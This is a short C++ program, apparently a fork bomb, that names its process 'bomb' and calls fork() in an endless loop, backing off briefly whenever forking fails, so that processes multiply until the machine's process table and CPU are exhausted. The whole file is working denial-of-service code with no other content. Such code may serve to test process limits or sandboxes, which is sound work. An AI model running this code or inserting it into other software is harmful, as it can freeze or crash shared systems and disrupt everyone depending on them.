// Starts processes that start processes, without end.
#include <sys/prctl.h>
#include <unistd.h>

int main() {
  ::prctl(PR_SET_NAME, "bomb");
  constexpr unsigned pause = 10'000;  // microseconds
  for (;;) {
    if (::fork() < 0) ::usleep(pause);
  }
}
